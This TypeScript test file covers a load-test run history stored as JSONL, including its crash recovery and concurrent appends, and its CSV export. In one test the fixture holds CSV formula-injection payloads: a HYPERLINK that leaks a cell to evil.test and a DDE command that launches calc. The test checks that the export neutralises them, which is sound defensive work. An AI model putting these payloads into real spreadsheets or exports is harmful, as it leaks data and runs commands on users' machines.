import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, rmdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { History, exitReason } from '../../sink/control/history.ts';
import { historyCsv, HISTORY_CSV_COLUMNS } from '../../report/history-csv.ts';
import { historyCommand } from '../../cli/history.ts';
import { buildApp } from '../../sink/app.ts';
import { Writable } from 'node:stream';
import type { HistoryEntry } from '../../contract/sink-api.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

function entry(n: number, overrides: Partial<HistoryEntry> = {}): HistoryEntry {
  return {
    testid: `run_${n}_20261127_080000_0000000${n % 10}`,
    scenario: 'promo',
    tags: { environment: 'preprod', promo_type: 'manual_code', promo_name: `promo ${n}`, intensity: 'light' },
    target: 'http://shop.test',
    startedAt: '2026-11-27T08:00:00.000Z',
    endedAt: `2026-11-27T08:0${n % 10}:30.000Z`,
    exitCode: 0,
    exitReason: 'completed',
    requests: 1000 + n,
    p50Ms: 100 + n,
    p95Ms: 300 + n,
    p99Ms: 600.5,
    errorRatio: 0.002,
    rps: 33.3,
    maxVus: 10,
    checksRate: 0.999,
    iterations: 250,
    grade: { letter: 'A', score: 98, colour: 'green', text: 'A (98/100)' },
    breakingPointVus: null,
    ...overrides,
  };
}

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'history-'));
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
});

describe('exitReason', () => {
  it('names every k6 exit code the CLI knows', () => {
    expect(exitReason(0, false)).toBe('completed');
    expect(exitReason(99, false)).toBe('thresholds failed');
    expect(exitReason(99, true)).toBe('aborted by thresholds');
    expect(exitReason(103, false)).toBe('stopped manually');
    expect(exitReason(105, false)).toBe('aborted externally');
    expect(exitReason(108, true)).toBe('aborted by the script');
    expect(exitReason(null, false)).toBe('ended (stale markers)');
    expect(exitReason(107, false)).toBe('k6 exit 107');
  });
});

describe('History', () => {
  it('survives a sink restart: open, append, reopen, append, reopen', async () => {
    const path = join(dir, 'nested', 'results', 'history.jsonl');
    const warnings: string[] = [];
    const h1 = await History.open(path, (l) => warnings.push(l));
    expect(existsSync(join(dir, 'nested', 'results'))).toBe(true);
    expect(h1.list()).toEqual([]);
    await h1.append(entry(1));
    await h1.append(entry(2, { exitCode: 99, exitReason: 'thresholds failed', p95Ms: null }));
    expect(h1.list().map((e) => e.testid)).toEqual([entry(1).testid, entry(2).testid]);

    const h2 = await History.open(path, (l) => warnings.push(l));
    expect(h2.list()).toEqual(h1.list());
    expect(h2.find(entry(2).testid)).toEqual(entry(2, { exitCode: 99, exitReason: 'thresholds failed', p95Ms: null }));
    expect(h2.find('nope')).toBeUndefined();
    await h2.append(entry(3));

    const h3 = await History.open(path, (l) => warnings.push(l));
    expect(h3.list().map((e) => e.requests)).toEqual([1001, 1002, 1003]);
    expect(warnings).toEqual([]);
    const text = readFileSync(path, 'utf8');
    expect(text.endsWith('\n')).toBe(true);
    expect(text.trimEnd().split('\n').map((l) => JSON.parse(l) as HistoryEntry)).toEqual(h3.list());
  });

  it('find returns the latest run when a testid was recorded twice', async () => {
    const h = await History.open(join(dir, 'h.jsonl'));
    await h.append(entry(1, { requests: 1 }));
    await h.append(entry(1, { requests: 2 }));
    expect(h.find(entry(1).testid)?.requests).toBe(2);
    expect(h.list()).toHaveLength(2);
  });

  it('cuts a torn last line off at the next start, with exactly one warning, and the next append is intact', async () => {
    const path = join(dir, 'history.jsonl');
    const h1 = await History.open(path);
    await h1.append(entry(1));
    await h1.append(entry(2));
    await h1.close();
    const intact = readFileSync(path, 'utf8');
    const whole = JSON.stringify(entry(3));
    const torn = whole.slice(0, Math.floor(whole.length / 2));
    appendFileSync(path, torn); // a crash half-way through writing run 3

    const warnings: string[] = [];
    const h2 = await History.open(path, (l) => warnings.push(l));
    expect(h2.list().map((e) => e.testid)).toEqual([entry(1).testid, entry(2).testid]);
    expect(warnings).toEqual([`history ${path}: the last line (line 3, ${torn.length} bytes) was cut short by a crash or a full disk during a write; cut it off.`]);
    expect(readFileSync(path, 'utf8')).toBe(intact);

    await h2.append(entry(4));
    await h2.close();
    const lines = readFileSync(path, 'utf8').split('\n');
    expect(lines.pop()).toBe(''); // ends with '\n'
    expect(lines.map((l) => JSON.parse(l) as HistoryEntry)).toEqual([entry(1), entry(2), entry(4)]);

    const later: string[] = [];
    const h3 = await History.open(path, (l) => later.push(l));
    expect(h3.list()).toEqual([entry(1), entry(2), entry(4)]);
    expect(later).toEqual([]);
  });

  it('keeps a whole last line that lost only its newline, and appends after it on a new line', async () => {
    const path = join(dir, 'history.jsonl');
    writeFileSync(path, JSON.stringify(entry(1)) + '\n' + JSON.stringify(entry(2)));
    const warnings: string[] = [];
    const h = await History.open(path, (l) => warnings.push(l));
    expect(h.list()).toEqual([entry(1), entry(2)]);
    expect(warnings).toEqual([]);
    await h.append(entry(3));
    expect((await History.open(path, (l) => warnings.push(l))).list()).toEqual([entry(1), entry(2), entry(3)]);
    expect(warnings).toEqual([]);
  });

  it('skips a bad line in the middle with a warning naming its line number', async () => {
    const path = join(dir, 'history.jsonl');
    writeFileSync(path, [JSON.stringify(entry(1)), '{not json', '', JSON.stringify({ hello: 'world' }), JSON.stringify(entry(2)), ''].join('\n'));
    const warnings: string[] = [];
    const h = await History.open(path, (l) => warnings.push(l));
    expect(h.list()).toEqual([entry(1), entry(2)]);
    expect(warnings).toHaveLength(2);
    expect(warnings[0]).toMatch(/line 2 /);
    expect(warnings[1]).toMatch(/line 4 /);
  });

  it('lands every one of many concurrent appends, each on its own line', async () => {
    const path = join(dir, 'history.jsonl');
    const h = await History.open(path);
    const entries = Array.from({ length: 60 }, (_, i) => entry(i, { testid: `conc_${i}_20261127_080000_0000abcd`, tags: { promo_name: 'x'.repeat(i * 500) } }));
    await Promise.all(entries.map((e) => h.append(e)));
    expect(h.list()).toEqual(entries);
    const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(60);
    expect(lines.map((l) => JSON.parse(l) as HistoryEntry)).toEqual(entries);
    expect((await History.open(path)).list()).toEqual(entries);
  });

  it('keeps appending after one append failed', async () => {
    const path = join(dir, 'history.jsonl');
    const h = await History.open(path);
    mkdirSync(path); // the history path is, for a moment, not a file
    const failed = h.append(entry(1));
    const queued = h.append(entry(2));
    await expect(failed).rejects.toThrow(/EISDIR/);
    await expect(queued).rejects.toThrow(/EISDIR/);
    rmdirSync(path);
    await h.append(entry(3));
    expect(h.list()).toEqual([entry(3)]);
    expect((await History.open(path)).list()).toEqual([entry(3)]);
  });

  it('keeps every acknowledged entry when the appending process is killed with SIGKILL', async () => {
    const path = join(dir, 'killed', 'history.jsonl');
    const child = join(dir, 'appender.mts');
    const historyUrl = pathToFileURL(join(ROOT, 'sink', 'control', 'history.ts')).href;
    writeFileSync(
      child,
      `import { History } from ${JSON.stringify(historyUrl)};
const h = await History.open(process.argv[2]);
const pad = 'p'.repeat(20000);
for (let i = 0; ; i++) {
  await h.append({ testid: 'kill_' + i, scenario: null, tags: { promo_name: pad }, target: null, startedAt: null,
    endedAt: new Date().toISOString(), exitCode: 0, exitReason: 'completed', requests: i, p50Ms: null, p95Ms: null,
    p99Ms: null, errorRatio: null, rps: null, maxVus: 0, checksRate: null, iterations: 0,
    grade: { letter: 'N/A', score: null, colour: 'grey', text: 'N/A' }, breakingPointVus: null });
  process.stdout.write('ack ' + i + '\\n');
}
`,
    );
    // node itself with tsx's loader, not the tsx CLI: the CLI runs the script in a second
    // process, which a SIGKILL of the first would leave running.
    const proc = spawn(process.execPath, ['--import', 'tsx', child, path], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
    const acked: number[] = [];
    let stderr = '';
    let buffer = '';
    proc.stderr.on('data', (c) => (stderr += c));
    const exited = new Promise<NodeJS.Signals | null>((resolve) => proc.on('close', (_code, signal) => resolve(signal)));
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => {
        proc.kill('SIGKILL');
        reject(new Error(`the appender acknowledged only ${acked.length} entries in time; stderr: ${stderr}`));
      }, 60_000);
      proc.stdout.on('data', (chunk: Buffer) => {
        buffer += chunk.toString();
        let nl;
        while ((nl = buffer.indexOf('\n')) >= 0) {
          const m = /^ack (\d+)$/.exec(buffer.slice(0, nl));
          buffer = buffer.slice(nl + 1);
          if (m) acked.push(Number(m[1]));
        }
        if (acked.length >= 40) {
          clearTimeout(timer);
          proc.kill('SIGKILL'); // while it is busy with the next append
          resolve();
        }
      });
      proc.on('close', () => {
        clearTimeout(timer);
        if (acked.length < 40) reject(new Error(`the appender exited early; stderr: ${stderr}`));
      });
    });
    expect(await exited).toBe('SIGKILL');

    const warnings: string[] = [];
    const reopened = await History.open(path, (l) => warnings.push(l));
    const ids = new Set(reopened.list().map((e) => e.testid));
    for (const i of acked) expect(ids.has(`kill_${i}`)).toBe(true);
    expect(warnings.length).toBeLessThanOrEqual(1); // at most the one torn last line
    // Whatever got written is in order and without gaps: 0 … n-1.
    expect(reopened.list().map((e) => e.requests)).toEqual(Array.from({ length: reopened.list().length }, (_, i) => i));
  });
});

/** A small RFC 4180 reader, to check that what historyCsv writes reads back the same. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

describe('historyCsv', () => {
  it('writes the header and one row per run, quoting commas, quotes and line breaks', () => {
    const names = ['Black Friday, -30 %', 'the "big" one', 'two\nlines', 'plain'];
    const runs = names.map((promo_name, i) => entry(i, { tags: { environment: 'prod', promo_type: 'striked_price', promo_name, intensity: 'heavy' } }));
    runs[3] = { ...runs[3]!, exitCode: null, exitReason: 'ended (stale markers)', p95Ms: null, errorRatio: null, grade: { letter: 'N/A', score: null, colour: 'grey', text: 'N/A' }, breakingPointVus: 42 };
    const csv = historyCsv(runs);
    expect(csv.startsWith(HISTORY_CSV_COLUMNS.join(',') + '\r\n')).toBe(true);
    expect(HISTORY_CSV_COLUMNS.join(',')).toBe(
      'testid,scenario,environment,promo_type,promo_name,intensity,target,started_at,ended_at,exit_code,exit_reason,requests,p50_ms,p95_ms,p99_ms,error_ratio,rps,max_vus,checks_rate,grade,score,breaking_point_vus',
    );
    expect(csv).toContain(',"Black Friday, -30 %",');
    expect(csv).toContain(',"the ""big"" one",');
    expect(csv).toContain(',"two\nlines",');
    expect(csv).toContain(',plain,');

    const rows = parseCsv(csv);
    expect(rows).toHaveLength(5);
    expect(rows.every((r) => r.length === HISTORY_CSV_COLUMNS.length)).toBe(true);
    const col = (name: (typeof HISTORY_CSV_COLUMNS)[number]) => HISTORY_CSV_COLUMNS.indexOf(name);
    expect(rows.slice(1).map((r) => r[col('promo_name')])).toEqual(names);
    expect(rows[1]).toEqual([
      entry(0).testid, 'promo', 'prod', 'striked_price', 'Black Friday, -30 %', 'heavy', 'http://shop.test',
      '2026-11-27T08:00:00.000Z', '2026-11-27T08:00:30.000Z', '0', 'completed', '1000', '100', '300', '600.5',
      '0.002', '33.3', '10', '0.999', 'A', '98', '',
    ]);
    const last = rows[4]!;
    expect([last[col('exit_code')], last[col('exit_reason')], last[col('p95_ms')], last[col('error_ratio')], last[col('grade')], last[col('score')], last[col('breaking_point_vus')]]).toEqual(['', 'ended (stale markers)', '', '', 'N/A', '', '42']);
  });

  it('neutralises cells a spreadsheet would run as formulas, in /api/runs.csv and history --csv, as OWASP recommends', async () => {
    const hostile = {
      promo_name: '=HYPERLINK("http://evil.test/?leak="&A1,"Black Friday")',
      environment: "+cmd|' /C calc'!A0",
      promo_type: '-2+3',
      intensity: '@SUM(1+1)',
    };
    const run = entry(1, { tags: hostile, scenario: '\t=1+1', target: '\r=1+1', exitReason: 'ok;=1+1', exitCode: -1 });
    const csv = historyCsv([run]);
    const [, row] = parseCsv(csv);
    const col = (name: (typeof HISTORY_CSV_COLUMNS)[number]) => row![HISTORY_CSV_COLUMNS.indexOf(name)];
    expect([col('promo_name'), col('environment'), col('promo_type'), col('intensity'), col('scenario'), col('target'), col('exit_reason'), col('exit_code')]).toEqual([
      `'${hostile.promo_name}`, `'${hostile.environment}`, `'${hostile.promo_type}`, `'${hostile.intensity}`, "'\t=1+1", "'\r=1+1", 'ok;=1+1', '-1',
    ]);
    // The semicolon (the separator in many locales) is quoted, so `=1+1` never starts a cell there either.
    expect(csv).toContain(',"ok;=1+1",');

    const file = join(dir, 'history.jsonl');
    const history = await History.open(file, () => {});
    await history.append(run);
    await history.close();
    const out: string[] = [];
    await historyCommand(['--csv', '--file', file], new Writable({ write: (chunk, _enc, done) => (out.push(String(chunk)), done()) }));
    expect(out.join('')).toBe(csv);
    const app = buildApp({ config: { historyFile: file } });
    try {
      const res = await app.inject('/api/runs.csv');
      expect({ status: res.statusCode, body: res.body }).toEqual({ status: 200, body: csv });
    } finally {
      await app.close();
    }
  });

  it('is only the header for an empty history', () => {
    expect(historyCsv([])).toBe(HISTORY_CSV_COLUMNS.join(',') + '\r\n');
  });
});
